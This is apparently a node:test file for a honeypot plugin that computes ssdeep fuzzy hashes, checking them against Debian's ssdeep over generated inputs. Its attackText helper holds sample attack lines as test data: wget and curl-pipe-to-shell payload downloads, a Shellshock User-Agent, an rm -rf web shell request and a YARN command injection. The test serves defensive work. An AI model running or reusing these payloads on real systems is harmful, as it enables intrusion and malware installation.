// Tests for spamsum, run by `honeytrap-plugin test` with node:test. The
// plugin folder runs in the daemon's own wasm engine (loadPlugin) with the
// limits in plugin.json. The reference is Debian's `ssdeep` command (package
// ssdeep, installed by scripts/setup.sh): for a corpus of 57 inputs the
// plugin's digest must be exactly what `ssdeep -b` prints.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { attackFixture, loadPlugin } from '@honeytrap/sdk';

const dir = fileURLToPath(new URL('..', import.meta.url));

/** Deterministic pseudo-random bytes (SHA-256 in counter mode), so a failure can be reproduced. */
function randomBytes(size, seed) {
  const out = Buffer.alloc(size);
  for (let i = 0, block = 0; i < size; block++) {
    const h = createHash('sha256').update(`${seed}:${block}`).digest();
    i += h.copy(out, i, 0, Math.min(32, size - i));
  }
  return out;
}

/** Text in the shape of attack data: a shell session and HTTP exploits, shuffled by `seed`. */
function attackText(size, seed) {
  const lines = [
    'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ',
    'wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh; ',
    '/bin/busybox ECCHI\r\n',
    'GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.2/jaws;sh+/tmp/jaws HTTP/1.1\r\n',
    'User-Agent: () { :; }; /bin/bash -c "curl -s http://203.0.113.9/y.sh | sh"\r\n',
    'Host: 192.0.2.1\r\nAccept: */*\r\nConnection: keep-alive\r\n\r\n',
    'enable\r\nsystem\r\nshell\r\nsh\r\n',
    '{"am-container-spec":{"commands":{"command":"curl -fsSL http://203.0.113.20/x | sh"}}}\n',
  ];
  const pick = randomBytes(Math.ceil(size / 8) + 1, `pick-${seed}`);
  let s = '';
  for (let k = 0; s.length < size; k++) s += lines[pick[k] % lines.length];
  return Buffer.from(s.slice(0, size), 'latin1');
}

/** The corpus: [name, bytes]. Sizes around the block size boundaries (3 * 2^k * 64). */
function corpus() {
  const inputs = [['empty', Buffer.alloc(0)]];
  const sizes = [1, 2, 3, 6, 7, 8, 63, 64, 191, 192, 193, 500, 1023, 1024, 1025, 4096, 12288];
  for (const n of [12289, 50000, 65535, 65536, 100000, 786432, 1048576]) sizes.push(n);
  for (const n of sizes) {
    inputs.push([`random-${n}`, randomBytes(n, n)]);
    inputs.push([`text-${n}`, attackText(n, n)]);
  }
  // a rolling sum of 0 at the end (7 zero bytes): the digest's open piece is left out
  inputs.push(['random-5000-zero-tail', Buffer.concat([randomBytes(5000, 'z'), Buffer.alloc(7)])]);
  inputs.push(['text-70000-zero-tail', Buffer.concat([attackText(70000, 'z'), Buffer.alloc(64)])]);
  inputs.push([
    'random-300000-zero-tail',
    Buffer.concat([randomBytes(300000, 'y'), Buffer.alloc(9)]),
  ]);
  inputs.push(['zeros-100000', Buffer.alloc(100000)]);
  inputs.push(['ff-50000', Buffer.alloc(50000, 0xff)]);
  // runs of one signature character (ssdeep prints them; the eliminateSequences option cuts them)
  inputs.push(['abcdefghij-x20000', Buffer.from('abcdefghij'.repeat(20000))]);
  inputs.push(['hello-x5000', Buffer.from('hello world, this is it\n'.repeat(5000))]);
  inputs.push(['telnet-x1000', Buffer.from('enable\r\nsystem\r\nshell\r\nsh\r\n'.repeat(1000))]);
  return inputs;
}

const inputs = corpus();
/** What `ssdeep -b` prints for each input, by name. */
const expected = new Map();
/** @type {import('@honeytrap/sdk').PluginUnderTest} */
let plugin;

before(async () => {
  const tmp = mkdtempSync(join(tmpdir(), 'spamsum-'));
  try {
    for (const [name, bytes] of inputs) writeFileSync(join(tmp, name), bytes);
    let out;
    try {
      out = execFileSync('ssdeep', ['-b', ...inputs.map(([name]) => name)], {
        cwd: tmp,
        encoding: 'utf8',
        stdio: ['ignore', 'pipe', 'ignore'],
      });
    } catch (err) {
      throw new Error(
        `these tests need the ssdeep command (Debian: apt-get install ssdeep): ${err.message}`,
      );
    }
    for (const line of out.split('\n').slice(1)) {
      const m = /^([^,]+),"(.*)"$/.exec(line);
      if (m) expected.set(m[2], m[1]);
    }
  } finally {
    rmSync(tmp, { recursive: true, force: true });
  }
  assert.equal(expected.size, inputs.length, 'ssdeep printed a digest for every input');
  plugin = await loadPlugin(dir, { config: { minBytes: 0 } });
});
after(() => plugin?.close());

test(`the corpus (${inputs.length} inputs, 0 B to 1 MiB, text and random) hashes exactly as ssdeep -b`, async () => {
  assert.ok(inputs.length >= 50);
  const mismatches = [];
  for (const [name, bytes] of inputs) {
    const want = expected.get(name);
    // as attack data when it fits the daemon's default read limit, and always as an artifact
    if (bytes.length <= 65536) {
      const out = await plugin.run(attackFixture({ received: bytes, port: 23 }), {
        ignoreFilters: bytes.length === 0,
      });
      const got = out.findings[0]?.value;
      if (got !== want) mismatches.push(`${name} (attack): got ${got}, ssdeep ${want}`);
    }
    if (bytes.length > 0) {
      const out = await plugin.runArtifact({ data: bytes }, attackFixture({ received: 'x' }));
      const got = out.findings[0]?.value;
      if (got !== want) mismatches.push(`${name} (artifact): got ${got}, ssdeep ${want}`);
    }
  }
  assert.deepEqual(mismatches, []);
});

test('spot checks of the format: 3:: for nothing, 64 and 32 character limits, block size doubling', () => {
  assert.equal(expected.get('empty'), '3::');
  assert.equal(expected.get('zeros-100000'), '3::');
  for (const [name] of inputs) {
    const [bs, a, b] = expected.get(name).split(':');
    assert.ok(a.length <= 64 && b.length <= 32, name);
    assert.ok(Number(bs) % 3 === 0 && Number.isInteger(Math.log2(Number(bs) / 3)), name);
  }
});

test('the finding: type hash, meta algorithm ssdeep, the input, its size and block size', async () => {
  const received = attackText(3000, 'meta');
  const out = await plugin.run(attackFixture({ received, port: 2323 }));
  const [bs] = out.findings[0].value.split(':');
  assert.deepEqual(out, {
    findings: [
      {
        type: 'hash',
        value: out.findings[0].value,
        meta: { algorithm: 'ssdeep', input: 'received', size: 3000, blocksize: Number(bs) },
      },
    ],
    artifacts: [],
  });
  // data cut at the daemon's read limit is hashed as stored, and says so
  const cut = await plugin.run(
    attackFixture({ received: randomBytes(5000, 'cut'), readLimit: 4096 }),
  );
  assert.equal(cut.findings[0].meta.size, 4096);
  assert.equal(cut.findings[0].meta.truncated, true);
  const art = await plugin.runArtifact(
    { data: randomBytes(70000, 'art'), contentType: 'application/x-executable', name: 'x86' },
    attackFixture({ received: 'x' }),
  );
  assert.equal(art.findings[0].meta.input, 'artifact');
  assert.equal(art.findings[0].meta.size, 70000);
});

test('eliminateSequences: runs of more than three identical characters are cut, as libfuzzy ELIMSEQ does', async () => {
  const p = await loadPlugin(dir, { config: { eliminateSequences: true } });
  try {
    for (const name of ['abcdefghij-x20000', 'hello-x5000', 'text-65536', 'random-1048576']) {
      const bytes = inputs.find(([n]) => n === name)[1];
      const out = await p.runArtifact({ data: bytes }, attackFixture({ received: 'x' }));
      const [bs, a, b] = expected.get(name).split(':');
      const cut = (s) => s.replace(/(.)\1{3,}/g, '$1$1$1');
      assert.equal(out.findings[0].value, `${bs}:${cut(a)}:${cut(b)}`, name);
    }
    const rep = inputs.find(([n]) => n === 'abcdefghij-x20000')[1];
    const out = await p.runArtifact({ data: rep }, attackFixture({ received: 'x' }));
    assert.equal(out.findings[0].value, '48:tgggJ:n');
  } finally {
    await p.close();
  }
});
